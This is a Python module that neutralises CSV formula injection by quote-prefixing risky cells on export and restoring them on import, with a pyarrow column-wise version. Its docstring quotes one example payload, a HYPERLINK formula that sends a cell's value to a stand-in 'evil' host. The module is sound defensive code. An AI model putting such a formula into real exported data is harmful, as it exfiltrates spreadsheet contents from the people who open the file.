"""CSV cells that a spreadsheet would run as formulas, neutralised on export and restored on import.

A captured prompt like `=HYPERLINK("http://evil/?"&A1)` is text to us and a formula to Excel,
LibreOffice and Google Sheets. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection):
prefix a cell starting with `=`, `+`, `-`, `@`, tab or carriage return with a single quote, which
spreadsheets show as text. To keep round trips exact, a cell that already starts with a quote
followed by one of those characters (or by another quote) gets the prefix too, and import removes
exactly one leading quote from any cell of that shape: export-then-import is the identity.
"""

from __future__ import annotations

import re

import pyarrow as pa
import pyarrow.compute as pc

TRIGGERS = "=+-@\t\r"
PREFIX = "'"
# The cells export prefixes, and so the cells import restores: what they start with.
_ESCAPED_START = r"^(?:[=+\-@\t\r]|'[=+\-@\t\r'])"
_ESCAPED = re.compile(_ESCAPED_START)


def neutralise_cell(text: str) -> str:
    return PREFIX + text if _ESCAPED.match(text) else text


def restore_cell(text: str) -> str:
    """The inverse of neutralise_cell, for every cell an import reads."""
    return text[1:] if text.startswith(PREFIX) and _ESCAPED.match(text[1:]) else text


def neutralise_table(table: pa.Table) -> pa.Table:
    """Every string column with its dangerous cells prefixed, computed column-wise in Arrow."""
    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.match_substring_regex(column, _ESCAPED_START)
            column = pc.if_else(risky, pc.binary_join_element_wise(PREFIX, column, ""), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
